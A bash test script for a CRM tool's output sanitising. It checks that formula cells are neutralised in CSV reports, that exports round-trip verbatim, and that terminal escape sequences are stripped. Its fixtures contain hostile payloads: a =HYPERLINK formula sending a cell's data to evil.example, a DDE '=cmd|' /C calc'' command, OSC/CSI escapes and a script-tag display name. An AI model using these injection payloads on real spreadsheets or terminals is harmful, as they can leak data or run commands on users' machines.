#!/usr/bin/env bash
# test_csv_cells.sh - hostile text on its way to people (section 6, R4, R5): CSV
# for spreadsheets turns formulas into text while crm export stays verbatim,
# and no terminal escape or control character reaches any output.
set -u
. "$(dirname "${BASH_SOURCE[0]}")/tap.sh"
e2e_start "$1"
export LC_ALL=C # the byte checks below look at bytes, not characters
TAB=$'\t'

expect() {
  local want=$1 what=$2; shift 3
  "$@" >out.txt 2>err.txt; local got=$?
  if [ "$got" = "$want" ]; then ok "$what"; else fail "$what (exit $got, wanted $want: $(head -c 300 err.txt))"; fi
}
has() { if grep -qF -- "$2" "$1"; then ok "$3"; else fail "$3 ('$2' not in $1: $(head -c 400 "$1"))"; fi }
lacks() { if grep -qF -- "$2" "$1"; then fail "$3 ('$2' in $1: $(grep -F -- "$2" "$1" | head -c 300))"; else ok "$3"; fi }
# printable FILE WHAT: no C0 control but tab, CR and LF, no DEL, no C1 (U+0080-U+009F)
printable() {
  local c0 c1
  c0=$(tr -d '\t\r\n\040-\176\200-\377' < "$1" | wc -c)
  c1=$(grep -c $'\xc2[\x80-\x9f]' "$1")
  if [ "$c0" = 0 ] && [ "$c1" = 0 ]; then ok "$2"; else fail "$2 ($c0 C0/DEL bytes, $c1 lines with C1: $(cat -v "$1" | head -c 300))"; fi
}

printf '[org]\ninternal_domains = corp.example\nintegration_user = 005000000000001AAA\n' > kith.conf
printf 'Id,FirstName,LastName,Email,IsActive\n005000000000001AAA,Ann,Lee,ann.lee@corp.example,true\n' > User.csv
printf 'Id,Name,Website,Secondary_Domains__c,OwnerId\n001000000000001AAA,Acme,acme.com,,005000000000001AAA\n' > Account.csv
expect 0 "init" -- "$KITH" init
expect 0 "import users" -- "$KITH" crm import User User.csv
expect 0 "import accounts" -- "$KITH" crm import Account Account.csv

# Contacts kith created, as a CRM administrator may have edited them: cells
# a spreadsheet would run, and a LastName carrying an OSC and a CSI.
{
  printf 'Id,AccountId,FirstName,LastName,Email,Title,Phone,Department,Created_By_Kith__c\n'
  printf '003000000000001AAA,001000000000001AAA,@Ann,-Lee,ann@acme.com,=SUM(A1:A9),+1 555 0100,"\t=1+1",true\n'
  printf '003000000000002AAA,001000000000001AAA,Bo,"\033]0;pwned\007Ek\033[31m",bo@acme.com,,,,true\n'
} > Contact.csv
expect 0 "import contacts" -- "$KITH" crm import Contact Contact.csv

mkdir in
printf '%s\n' '{"type":"email","id":"=HYPERLINK(\"http://evil.example/?\"&C2,\"Open\")","time":"2026-03-04T09:00:00Z","subject":"Hi","from":{"email":"ann.lee@corp.example","name":"Ann Lee"},"to":[{"email":"jane.doe@acme.com","name":"Jane Doe"}]}' > in/feed.jsonl
printf 'BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//kith//test//EN\r\nBEGIN:VEVENT\r\nUID:%s\r\nDTSTART:20260305T090000Z\r\nDTSTAMP:20260301T090000Z\r\nSUMMARY:Sync\r\nORGANIZER;CN=Ann Lee:mailto:ann.lee@corp.example\r\nATTENDEE;CN=Sam Roe:mailto:sam.roe@acme.com\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n' \
  "=cmd|' /C calc'!A0" > in/invite.ics
# A display name that is markup, a Title with a CSI and a C1 CSI after it.
printf 'Message-ID: <hostile-1@acme.com>\nDate: Tue, 03 Mar 2026 09:00:00 +0000\nFrom: "<script>x</script>" <ola.nordmann@acme.com>\nTo: Ann Lee <ann.lee@corp.example>\nSubject: Re: pricing\x1b[2J\n\nHi Ann,\n\nThat works for us.\n\nBest regards,\nOla Nordmann\nHead of Operations\x1b[31m\xc2\x9b1m\nAcme Ltd\n+44 20 7946 0958\n' > in/hostile.eml
expect 0 "ingest the hostile files" -- "$KITH" ingest in
expect 0 "sync" -- "$KITH" sync

# Section 6: CSV for people.
expect 0 "log csv" -- "$KITH" log --format csv
cp out.txt log.csv
has log.csv "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&C2,\"\"Open\"\")\"" "a jsonl id that is a formula is text in log csv"
has log.csv ",'=cmd|' /C calc'!A0," "an ICS UID that is a formula is text in log csv"
if grep -qE '(^|,)"?[-=+@]' log.csv; then fail "no log csv field begins a formula ($(grep -E '(^|,)"?[-=+@]' log.csv | head -1))"; else ok "no log csv field begins a formula"; fi
expect 0 "log json" -- "$KITH" log --format json
has out.txt '"ActivityId":"=HYPERLINK(\"http://evil.example/?\"&C2,\"Open\")"' "log json keeps the id as it is"
expect 0 "report created csv" -- "$KITH" report created --format csv
cp out.txt report.csv
has report.csv ",'@Ann,'-Lee,ann@acme.com,'=SUM(A1:A9),'+1 555 0100,'${TAB}=1+1," "report csv makes =, +, -, @ and tab cells text"
has report.csv ",Jane,Doe,jane.doe@acme.com," "report csv leaves plain cells alone"

# crm export: every value as stored, and it reads back the same.
expect 0 "crm export" -- "$KITH" crm export Contact
cp out.txt export.csv
has export.csv ",@Ann,-Lee,ann@acme.com,=SUM(A1:A9),+1 555 0100,\"${TAB}=1+1\"," "crm export writes formula cells verbatim"
lacks export.csv "'=" "crm export adds no prefix"
expect 0 "import the export again" -- "$KITH" crm import Contact export.csv
"$KITH" crm export Contact > again.csv
cmp -s export.csv again.csv && ok "crm export, import, export: the same bytes" || fail "crm export does not read back the same"

# R4, R5: markup is no name; the signature's name and Title reach the CRM clean.
has export.csv ",Ola,Nordmann,ola.nordmann@acme.com,Head of Operations," "the signature's name and Title, without escapes"
lacks export.csv "script" "the markup display name gives no name"

# The printers' last defence: whatever is stored, no output carries ESC.
for f in csv json text; do
  "$KITH" log --format $f > "log-$f.out"
  printable "log-$f.out" "log --format $f prints no control characters"
  "$KITH" report created --format $f > "report-$f.out"
  printable "report-$f.out" "report created --format $f prints no control characters"
done
for f in csv json; do
  "$KITH" crm export Contact --format $f > "export-$f.out"
  printable "export-$f.out" "crm export --format $f prints no control characters"
done
has report-text.out "Bo" "the text table still shows the contact whose name held escapes"
"$KITH" explain ola.nordmann@acme.com > explain.out
printable explain.out "explain prints no control characters"
has explain.out "'Re: pricing'" "the subject is kept without its escape"

finish
